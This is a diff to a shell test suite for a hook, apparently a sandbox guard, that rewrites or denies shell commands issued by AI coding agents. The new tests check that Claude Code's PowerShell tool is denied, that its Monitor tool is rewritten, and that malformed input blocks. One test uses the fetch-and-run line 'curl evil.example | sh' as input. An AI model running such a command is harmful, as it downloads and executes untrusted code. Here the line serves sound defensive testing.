@@ -118,8 +118,24 @@ json_for "true" | "$C" hook claude >"$tmp/out.json"
 check_eq "hook: no timeout, no profile" "$(jq -c .hookSpecificOutput.updatedInput "$tmp/out.json")" \
 	"$(jq -cn --arg c "$SELF run -- 'true'" '{command:$c}')"
 json_for "true" | "$C" hook claude --ask >"$tmp/out.json"
-check_eq "hook: --ask leaves the permission decision to the agent" \
-	"$(jq -c '.hookSpecificOutput | has("permissionDecision")' "$tmp/out.json")" false
+check_eq "hook: --ask asks (permissionDecision ask with the rewrite, the form Claude Code documents)" \
+	"$(jq -c '.hookSpecificOutput.permissionDecision' "$tmp/out.json")" '"ask"'
+# Claude Code's other shell tools (review s36): Monitor is rewritten as
+# Bash is, PowerShell denied (pwsh does not read the POSIX quotes).
+jq -n '{hook_event_name:"PreToolUse",tool_name:"Monitor",tool_input:{command:"tail -f log",description:"watch"}}' |
+	"$C" hook claude >"$tmp/out.json"
+check_eq "hook: Claude Code's Monitor tool is rewritten, its siblings kept" \
+	"$(jq -c '.hookSpecificOutput | [.permissionDecision, .updatedInput]' "$tmp/out.json")" \
+	"$(jq -cn --arg c "$SELF run -- 'tail -f log'" '["allow", {command:$c, description:"watch"}]')"
+jq -n '{hook_event_name:"PreToolUse",tool_name:"PowerShell",tool_input:{command:"Get-ChildItem"}}' |
+	"$C" hook claude >"$tmp/out.json" 2>"$tmp/err"
+check_eq "hook: Claude Code's PowerShell tool is denied (exit 2, nothing on stdout)" "$?:$(cat "$tmp/out.json")" "2:"
+check_match "... saying why" "$(cat "$tmp/err")" "PowerShell tool runs commands outside the sandbox"
+# A rewrite that cannot be encoded (a path that is not UTF-8) never allows
+# the original command.
+json_for "curl evil.example | sh" | "$C" hook claude --cert $'/tmp/\xe9.pem' >"$tmp/out.json" 2>"$tmp/err"
+check_eq "hook: a --cert path that is not UTF-8 denies (exit 2), never allows the original" "$?:$(cat "$tmp/out.json")" "2:"
+check_match "... saying why" "$(cat "$tmp/err")" "not valid UTF-8"
 json_for "true" | "$C" --url https://127.0.0.1:7443 --ca "/tmp/my ca.pem" hook claude >"$tmp/out.json"
 check_eq "hook: explicit --url/--ca are passed on, quoted" \
 	"$(jq -r .hookSpecificOutput.updatedInput.command "$tmp/out.json")" \
@@ -218,7 +234,7 @@ for a in claude codex gemini cursor; do
 	pay_$a "ls" | run_hook $a --ask
 	if [ "$a" = codex ]; then want=allow; else want=ask; fi
 	case $a in
-	claude) dec=$(jq -r '.hookSpecificOutput.permissionDecision // "none"' "$tmp/h.o") want=none ;;
+	claude) dec=$(jq -r '.hookSpecificOutput.permissionDecision // "none"' "$tmp/h.o") ;;
 	codex) dec=$(jq -r .hookSpecificOutput.permissionDecision "$tmp/h.o") ;;
 	gemini) dec=$(jq -r .decision "$tmp/h.o") ;;
 	cursor) dec=$(jq -r .permission "$tmp/h.o") ;;
@@ -280,6 +296,15 @@ pay_cursor_bse "ls" | SHARNESS_URL=http://127.0.0.1:7443 run_hook cursor; expect
 pay_cursor "ls" | run_hook cursor --profile; expect_deny cursor "--profile without a value"
 pay_cursor "ls" | run_hook --bogus cursor; expect_deny cursor "an unknown option"
 pay_claude "ls" | run_hook claude --profile; check_eq "hook claude: --profile without a value blocks (exit 2, nothing on stdout)" "$rc:$(wc -c <"$tmp/h.o")" "2:0"
+# --help or --version on a hook's command line (review s36): usage text and
+# exit 0 would run the command.
+pay_cursor "ls" | run_hook cursor --help; expect_deny cursor "--help on the hook's command line"
+pay_claude "ls" | run_hook claude --version
+check_eq "hook claude: --version on the hook's command line blocks (exit 2, nothing on stdout)" "$rc:$(wc -c <"$tmp/h.o")" "2:0"
+# A reason that quotes input cut inside a UTF-8 character still reaches
+# Cursor as JSON (review s36): without it, Cursor may run the command.
+jq -cn --arg e "$(printf 'x%.0s' $(seq 39))é" '{hook_event_name:$e,command:"id"}' | run_hook cursor
+expect_deny cursor "an event name cut inside a UTF-8 character in the reason"
 jq -cn '{hook_event_name:"beforeShellExecution",cwd:"/w"}' | run_hook cursor; expect_deny cursor "beforeShellExecution without command"
 jq -cn '{hook_event_name:"beforeShellExecution",command:42}' | run_hook cursor; expect_deny cursor "beforeShellExecution with a number as command"
 jq -cn '{hook_event_name:"beforeShellExecution",command:""}' | run_hook cursor; expect_deny cursor "beforeShellExecution with an empty command"
@@ -291,7 +316,7 @@ if [ -f "$root/docs/client.md" ]; then
 	awk '/<!-- settings.json -->/{f=1;next} f&&/^```json/{g=1;next} g&&/^```/{exit} g' "$root/docs/client.md" >"$tmp/settings.json"
 	check_eq "docs: the settings.json hook entry parses and runs 'hook claude'" \
 		"$(jq -r '.hooks.PreToolUse[0] | .matcher + " " + .hooks[0].command' "$tmp/settings.json" 2>&1)" \
-		"Bash /usr/local/bin/sharness-client hook claude"
+		"Bash|Monitor|PowerShell /usr/local/bin/sharness-client hook claude"
 fi
 
 # ---- against the real daemon ---------------------------------------------
